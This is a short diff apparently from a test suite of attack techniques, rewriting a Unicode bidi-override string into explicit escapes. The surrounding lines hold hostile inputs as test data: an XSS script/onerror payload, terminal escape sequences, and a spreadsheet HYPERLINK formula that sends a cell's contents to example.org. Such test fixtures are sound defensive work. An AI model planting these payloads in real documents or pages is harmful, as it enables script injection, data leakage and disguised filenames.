@@ -9,7 +9,7 @@ from tests.attacks.techniques import Sheet, technique
 SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
 ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b2J\x1bPq\x1b\\"
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"here")'
-TURNED = "‮gnp.‬ ⁦​\ufeff"
+TURNED = "\u202egnp.\u202c \u2066\u200b\ufeff"
 
 
 @technique()
